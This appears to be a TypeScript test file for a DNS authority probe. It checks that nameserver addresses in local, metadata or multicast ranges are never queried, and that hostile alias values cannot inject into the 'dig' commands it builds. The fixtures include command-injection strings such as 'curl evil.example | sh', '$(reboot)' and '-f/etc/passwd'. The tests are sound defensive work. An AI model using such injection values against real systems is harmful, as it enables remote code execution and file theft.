import { describe, expect, it } from 'vitest';
import { evidenceSchema } from '../../src/model/evidence.ts';
import { authority } from '../../src/probes/authority.ts';
import { fakeDns } from './fake-dns.ts';
import { fakePorts, here } from './fake-ports.ts';

const NAME = 'home.example.org';
const RESOLVER = '192.0.2.53';

/** A zone that belongs to somebody who means harm, below a top-level domain that doesn't. */
async function look(zone: Parameters<typeof fakeDns>[0]['zones'][string]) {
  const { dns, asked } = fakeDns({
    zones: {
      org: { servers: { 'a.org-servers.net': ['198.51.100.1'] } },
      'org-servers.net': {
        servers: { 'a.org-servers.net': ['198.51.100.1'] },
        records: { 'a.org-servers.net': ['198.51.100.1'] },
      },
      'example.org': zone,
    },
    resolvers: { [RESOLVER]: {} },
  });
  const evidence = await authority(NAME, fakePorts({ dns }), here());
  for (const item of evidence) evidenceSchema.parse(item);
  const servers = asked.map((question) => question.split(' ')[0] ?? '');
  return { evidence, servers: new Set(servers), asked };
}

describe('a zone that means harm', () => {
  it.each([
    '127.0.0.1',
    '127.0.0.53',
    '0.0.0.0',
    '169.254.169.254',
    '224.0.0.251',
    '::1',
    '::',
    'fe80::1',
    'ff02::fb',
  ])('has nobody asked at %s', async (address) => {
    const servers = { 'ns.example.org': [address, '198.51.100.11'] };
    const seen = await look({ servers, glue: true, records: { [NAME]: ['198.51.100.80'] } });
    expect(seen.servers).toEqual(new Set([RESOLVER, '198.51.100.1', '198.51.100.11']));
    expect(seen.evidence.at(-1)).toMatchObject({ probe: 'authority', status: 'ok' });
  });

  it('is asked nowhere where it names no other server', async () => {
    const servers = { 'ns.example.org': ['127.0.0.1', '::1'] };
    const { evidence } = await look({ servers, glue: true, records: { [NAME]: ['198.51.100.80'] } });
    expect(evidence.filter(({ probe }) => probe === 'authority')).toEqual([]);
  });

  it.each([
    'x; curl evil.example | sh ;.example.net',
    '$(reboot).example.net',
    '-f/etc/passwd',
    "a'b.example.net",
    'a b',
  ])('gets no word into a command by an alias: %j', async (target) => {
    const servers = { 'ns.example.org': ['198.51.100.11'] };
    const { evidence, asked } = await look({ servers, glue: true, records: { [NAME]: [`=${target}`] } });
    for (const { how } of evidence) expect(how).toMatch(/^dig [\w .:@+-]+$/u);
    for (const { how } of evidence) expect(how).not.toContain(target);
    expect(asked.filter((question) => question.includes(target))).toEqual([]);
    expect(evidence.at(-1)).toMatchObject({
      probe: 'delegation',
      status: 'failed',
      reason: { code: 'malformed' },
    });
  });
});
